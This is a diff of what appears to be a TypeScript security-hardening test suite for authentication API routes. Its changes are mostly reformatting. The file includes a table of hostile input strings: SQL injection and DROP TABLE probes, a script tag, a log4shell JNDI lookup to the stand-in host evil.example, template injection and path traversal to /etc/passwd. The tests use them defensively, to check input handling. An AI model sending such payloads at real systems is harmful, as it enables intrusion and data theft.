@@ -59,10 +59,33 @@ const ROUTES: RouteCase[] = [
   {
     url: '/api/auth/register',
     body: () => registration({ email: uniqueEmail('hardening'), context: { source: 'web' } }),
-    fields: { role: 'string', firstName: 'string', lastName: 'string', email: 'string', password: 'string', confirmPassword: 'string', acceptTerms: 'boolean', context: 'object' },
+    fields: {
+      role: 'string',
+      firstName: 'string',
+      lastName: 'string',
+      email: 'string',
+      password: 'string',
+      confirmPassword: 'string',
+      acceptTerms: 'boolean',
+      context: 'object',
+    },
     required: ['role', 'firstName', 'lastName', 'email', 'password', 'confirmPassword', 'acceptTerms'],
     missingMessages: { role: AUTH_MESSAGES.missingRequireData },
-    textFields: ['firstName', 'lastName', 'email', 'password', 'confirmPassword', 'context.advisor', 'context.source', 'context.advisorConnect', 'context.inviter', 'context.expiry', 'context.inviteType', 'context.productUser', 'role'],
+    textFields: [
+      'firstName',
+      'lastName',
+      'email',
+      'password',
+      'confirmPassword',
+      'context.advisor',
+      'context.source',
+      'context.advisorConnect',
+      'context.inviter',
+      'context.expiry',
+      'context.inviteType',
+      'context.productUser',
+      'role',
+    ],
   },
   {
     url: '/api/auth/login',
@@ -148,7 +171,7 @@ const HOSTILE_STRINGS: Record<string, string> = {
   'sql injection': "' OR 1=1 --",
   'sql drop': "Robert'); DROP TABLE users; --",
   'html script': '<script>alert(1)</script>',
-  'log4shell': '${jndi:ldap://evil.example/a}',
+  log4shell: '${jndi:ldap://evil.example/a}',
   template: '{{7*7}}${7*7}<%= 7*7 %>',
   'path traversal': '../../../etc/passwd',
   'null byte inside': 'abc\u0000def',
@@ -271,7 +294,11 @@ describe.each(ROUTES)('$url', (route) => {
 
   it('an oversized body (> 256 KiB) → 413', async () => {
     const body = { ...route.body(), [Object.keys(route.fields)[0] ?? 'padding']: 'x'.repeat(300 * 1024) };
-    const error = await expectRefused(() => post(route.url, { payload: JSON.stringify(body), headers: { 'content-type': 'application/json' } }), 413, 'PAYLOAD_TOO_LARGE');
+    const error = await expectRefused(
+      () => post(route.url, { payload: JSON.stringify(body), headers: { 'content-type': 'application/json' } }),
+      413,
+      'PAYLOAD_TOO_LARGE',
+    );
     expect(error.message).toBe('The request is too large.');
   });
 
@@ -291,7 +318,12 @@ describe.each(ROUTES)('$url', (route) => {
 
   it('a body without a content type → 4xx, nothing stored', async () => {
     const before = await counts();
-    const response = await t.app.inject({ method: 'POST', url: route.url, payload: Buffer.from(JSON.stringify(route.body())), headers: { origin: TEST_ORIGIN, cookie: cookies.join('; ') } });
+    const response = await t.app.inject({
+      method: 'POST',
+      url: route.url,
+      payload: Buffer.from(JSON.stringify(route.body())),
+      headers: { origin: TEST_ORIGIN, cookie: cookies.join('; ') },
+    });
     expect(response.statusCode).toBeGreaterThanOrEqual(400);
     expect(response.statusCode).toBeLessThan(500);
     expectError(response, response.statusCode);
@@ -362,7 +394,7 @@ describe('unicode round-trips', () => {
   });
 
   it('a password with unicode, quotes and injection text works and is not trimmed', async () => {
-    for (const password of ["Pässwörd1! 😀", "Aa1!' OR 1=1 --", 'Aa1!<script>x</script>', '  Spaced Pass1!  ']) {
+    for (const password of ['Pässwörd1! 😀', "Aa1!' OR 1=1 --", 'Aa1!<script>x</script>', '  Spaced Pass1!  ']) {
       const email = uniqueEmail('unipass');
       await registerVerified(t, registration({ email, password, confirmPassword: password }));
       const ok = await post('/api/auth/login', { payload: { email, password }, cookies: [] });
